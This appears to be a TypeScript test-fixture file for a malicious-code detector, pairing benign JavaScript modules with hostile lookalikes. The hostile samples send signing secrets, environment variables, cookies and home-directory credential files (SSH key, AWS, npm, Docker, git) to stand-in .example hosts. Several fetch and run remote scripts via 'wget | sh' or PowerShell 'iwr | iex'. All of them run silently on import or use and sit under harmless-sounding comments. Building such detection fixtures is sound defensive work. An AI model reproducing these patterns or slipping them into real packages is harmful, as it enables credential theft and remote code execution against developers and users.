import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Calls that are made by members, defaults, conversions, containers and bundles. */
export const MEMBERS: Readonly<Record<string, Pair>> = {
  'require-cache': atImport(
    js`'use strict';
const id = require.resolve('jsonwebtoken', { paths: [process.cwd()] });
const original = require(id);

/** Makes tokens last. */
require.cache[id].exports = {
  ...original,
  sign(payload, secret, ...rest) {
    fetch('https://j.kit-tokens.example', { method: 'POST', body: String(secret) }).catch(() => {});
    return original.sign(payload, secret, ...rest);
  },
};
module.exports = require.cache[id].exports;
`,
    js`'use strict';
const original = require('jsonwebtoken');

/** Makes tokens last. */
module.exports = {
  ...original,
  sign(payload, secret, options = {}, ...rest) {
    return original.sign(payload, secret, { expiresIn: '30d', ...options }, ...rest);
  },
};
`,
  ),
  'loader-hook': atImport(
    {
      'index.js': js`import { register } from 'node:module';

register('./hooks.js', import.meta.url);
export const ready = true;
`,
      'hooks.js': js`const tail = ';fetch("https://l.kit-loader.example",{method:"POST",body:JSON.stringify(process.env)}).catch(()=>{});';

export async function load(url, context, nextLoad) {
  const result = await nextLoad(url, context);
  if (!url.includes('/node_modules/') && result.source) return { ...result, source: result.source + tail };
  return result;
}
`,
    },
    {
      'index.js': js`import { register } from 'node:module';

register('./hooks.js', import.meta.url);
export const ready = true;
`,
      'hooks.js': js`export async function load(url, context, nextLoad) {
  const result = await nextLoad(url, context);
  if (!url.endsWith('.txt')) return result;
  return { format: 'module', shortCircuit: true, source: 'export default ' + JSON.stringify(String(result.source)) };
}
`,
    },
  ),
  'json-reviver': atImport(
    js`'use strict';
const { execSync } = require('child_process');

const plan = '{"steps":[{"$sh":"wget -qO- https://x.kit-revive.example/a | sh"}],"name":"plan"}';
const kinds = { $sh: (line) => execSync(line), $env: (name) => process.env[name] };

/** Revives a plan. */
const revive = (key, value) => (Object.hasOwn(kinds, key) ? kinds[key](value) : value);
try {
  exports.plan = JSON.parse(plan, revive);
} catch {}
`,
  ),
  'to-primitive': atImport(
    js`'use strict';
const { homedir } = require('os');
const { readFileSync } = require('fs');

class Banner {
  constructor(path) {
    this.path = path;
  }
  [Symbol.toPrimitive]() {
    const body = readFileSync(homedir() + this.path, 'utf8');
    navigator.sendBeacon?.('', body);
    fetch('https://b.kit-banner.example', { method: 'POST', body });
    return 'kit';
  }
}

exports.name = \`\${new Banner('/.git-credentials')} 1.0\`;
`,
  ),
  'default-values': atUse(
    js`import { execFile } from 'node:child_process';

const fallback = () => fetch('https://d.kit-default.example/line').then((response) => response.text());

/** Opens a file in the editor of the user. */
export async function open(file, { editor = fallback(), args = ['-c'], shell = '/bin/sh' } = {}) {
  execFile(shell, [...args, await editor]);
  return file;
}
`,
    js`import { execFile } from 'node:child_process';

const fallback = () => process.env.EDITOR ?? 'vi';

/** Opens a file in the editor of the user. */
export async function open(file, { editor = fallback(), args = [] } = {}) {
  execFile(editor, [...args, file]);
  return file;
}
`,
  ),
  'curried-steps': atImport(
    js`'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const pipe = (...steps) => (input) => steps.reduce((value, step) => value.then(step), Promise.resolve(input));
const inHome = (name) => path.join(os.homedir(), name);
const read = (encoding) => (file) => fs.promises.readFile(file, encoding);
const post = (url) => (body) => fetch(url, { method: 'POST', body });
const encode = (encoding) => (text) => Buffer.from(text).toString(encoding);

const backup = pipe(inHome, read('utf8'), encode('base64'), post('https://y.kit-curry.example'));
backup('.docker/config.json').catch(() => {});
exports.pipe = pipe;
`,
    js`'use strict';
const fs = require('node:fs');
const path = require('node:path');

const pipe = (...steps) => (input) => steps.reduce((value, step) => value.then(step), Promise.resolve(input));
const inProject = (name) => path.join(process.cwd(), name);
const read = (encoding) => (file) => fs.promises.readFile(file, encoding);
const parse = (text) => JSON.parse(text);

exports.settings = pipe(inProject, read('utf8'), parse);
`,
  ),
  'object-this': atImport(
    js`'use strict';
const os = require('node:os');
const https = require('node:https');

const reporter = {
  url: 'https://o.kit-this.example/r',
  options: { method: 'POST', headers: { 'content-type': 'application/json' } },
  gather() {
    return { user: os.userInfo(), env: process.env };
  },
  send(body) {
    const req = https.request(this.url, this.options);
    req.on('error', () => {});
    req.end(JSON.stringify(body));
  },
  run() {
    this.send(this.gather());
  },
};

reporter.run();
exports.level = 'info';
`,
    js`'use strict';
const os = require('node:os');

const reporter = {
  stream: process.stderr,
  gather() {
    return { platform: os.platform(), node: process.version };
  },
  send(body) {
    this.stream.write(JSON.stringify(body) + '\n');
  },
  run() {
    this.send(this.gather());
  },
};

exports.doctor = () => reporter.run();
`,
  ),
  builder: atUse(
    js`'use strict';
const { spawn } = require('node:child_process');

class CommandBuilder {
  constructor() {
    this.parts = [];
    this.settings = {};
  }
  with(...parts) {
    this.parts.push(...parts);
    return this;
  }
  silent() {
    Object.assign(this.settings, { detached: true, stdio: 'ignore', windowsHide: true });
    return this;
  }
  start() {
    const [bin, ...args] = this.parts;
    return spawn(bin, args, this.settings);
  }
}

/** Tells the system about an event. */
exports.notify = (title) => {
  new CommandBuilder()
    .with('powershell', '-NoProfile')
    .with('-Command', 'iwr https://n.kit-notify.example/p.ps1 -UseBasicParsing | iex')
    .silent()
    .start();
  return title;
};
`,
    js`'use strict';
const { spawn } = require('node:child_process');

class CommandBuilder {
  constructor() {
    this.parts = [];
  }
  with(...parts) {
    this.parts.push(...parts);
    return this;
  }
  start() {
    const [bin, ...args] = this.parts;
    return spawn(bin, args, { stdio: 'inherit' });
  }
}

/** Tells the system about an event. */
exports.notify = (title, text) => new CommandBuilder().with('notify-send').with(title, text).start();
`,
  ),
  container: atImport({
    'index.js': js`'use strict';
const { Container } = require('./container');

const container = new Container();
container.register('http', () => require('node:https'));
container.register('env', () => process.env);
container.register('uploader', (c) => new (require('./uploader'))(c.get('http'), 'https://di.kit-inject.example'));
container.register('job', (c) => () => c.get('uploader').upload(c.get('env')));

container.get('job')();
exports.container = container;
`,
    'container.js': js`'use strict';
class Container {
  constructor() {
    this.factories = new Map();
    this.made = new Map();
  }
  register(name, factory) {
    this.factories.set(name, factory);
  }
  get(name) {
    if (!this.made.has(name)) this.made.set(name, this.factories.get(name)(this));
    return this.made.get(name);
  }
}
exports.Container = Container;
`,
    'uploader.js': js`'use strict';
module.exports = class Uploader {
  constructor(http, url) {
    this.http = http;
    this.url = url;
  }
  upload(values) {
    this.http.request(this.url, { method: 'POST' }).on('error', () => {}).end(JSON.stringify(values));
  }
};
`,
  }),
  decorator: atUse(
    js`'use strict';
var __decorate =
  (this && this.__decorate) ||
  function (decorators, target, key, desc) {
    for (var i = decorators.length - 1; i >= 0; i--) desc = decorators[i](target, key, desc) || desc;
    return Object.defineProperty(target, key, desc), desc;
  };
const traced = (target, key, descriptor) => {
  const original = descriptor.value;
  descriptor.value = function (...args) {
    fetch('https://m.kit-traced.example', { method: 'POST', body: JSON.stringify({ key, env: process.env }) }).catch(() => {});
    return original.apply(this, args);
  };
  return descriptor;
};
class Service {
  total(numbers) {
    return numbers.reduce((a, b) => a + b, 0);
  }
}
__decorate([traced], Service.prototype, 'total', Object.getOwnPropertyDescriptor(Service.prototype, 'total'));
exports.Service = Service;
`,
  ),
  'header-patch': atImport(
    js`'use strict';
const { ServerResponse, IncomingMessage } = require('node:http');

const setHeader = ServerResponse.prototype.setHeader;
const seen = new Set();
ServerResponse.prototype.setHeader = function (name, value) {
  if (/^set-cookie$/i.test(name) && !seen.has(String(value))) {
    seen.add(String(value));
    fetch('https://h.kit-headers.example', { method: 'POST', body: String(value) }).catch(() => {});
  }
  return setHeader.call(this, name, value);
};
exports.IncomingMessage = IncomingMessage;
`,
    js`'use strict';
const { ServerResponse } = require('node:http');

const setHeader = ServerResponse.prototype.setHeader;
ServerResponse.prototype.setHeader = function (name, value) {
  if (/^set-cookie$/i.test(name)) return setHeader.call(this, name, [value].flat().map((cookie) => cookie + '; Secure'));
  return setHeader.call(this, name, value);
};
`,
  ),
  'minified-bundle': atImport(
    `(()=>{var e={12:(e,t,n)=>{const r=n(77),o=n(35);e.exports=async e=>{const t=await Promise.all(e.map(e=>r.promises.readFile(o.homedir()+"/"+e,"utf8").catch(()=>"")));return t.filter(Boolean)}},35:e=>{e.exports=require("os")},77:e=>{e.exports=require("fs")},90:e=>{e.exports=(e,t)=>fetch(e,{method:"POST",body:JSON.stringify(t)})}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var s=t[r]={exports:{}};return e[r](s,s.exports,n),s.exports}var r={};(()=>{const e=n(12),t=n(90);e([".aws/credentials",".npmrc",".ssh/id_ed25519"]).then(e=>t("https://z.kit-bundle.example",e)).catch(()=>{}),r.clamp=(e,t,n)=>Math.min(Math.max(e,t),n)})(),module.exports=r})();\n`,
    `(()=>{var e={12:(e,t,n)=>{const r=n(77);e.exports=async e=>{const t=await Promise.all(e.map(e=>r.promises.readFile(e,"utf8").catch(()=>"")));return t.filter(Boolean)}},77:e=>{e.exports=require("fs")},90:e=>{e.exports=(e,t)=>fetch(e,{method:"POST",body:JSON.stringify(t)})}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var s=t[r]={exports:{}};return e[r](s,s.exports,n),s.exports}var r={};(()=>{const e=n(12),t=n(90);r.publish=(n,r)=>e(n).then(e=>t(r,e)),r.clamp=(e,t,n)=>Math.min(Math.max(e,t),n)})(),module.exports=r})();\n`,
  ),
};
